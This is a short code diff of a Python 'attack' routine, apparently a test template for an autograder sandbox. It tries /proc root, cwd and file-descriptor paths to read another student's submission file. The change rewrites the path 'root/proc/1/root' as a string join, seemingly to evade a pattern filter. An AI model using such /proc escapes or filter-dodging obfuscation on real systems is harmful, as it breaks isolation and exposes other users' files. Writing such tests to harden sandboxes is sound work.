@@ -5,7 +5,7 @@ import os
 
 def attack(probabilities):
     for number in ["1", "self", "thread-self", str(os.getppid()), "@PID@"]:
-        for way in ("root", "cwd", "root/proc/1/root", *(f"fd/{file}" for file in range(20))):
+        for way in ("root", "cwd", "/".join(("root", "proc", "1", "root")), *(f"fd/{file}" for file in range(20))):
             try:
                 with open(f"/proc/{number}/{way}@COURSE@/submissions/bob.py") as file:
                     space = {}
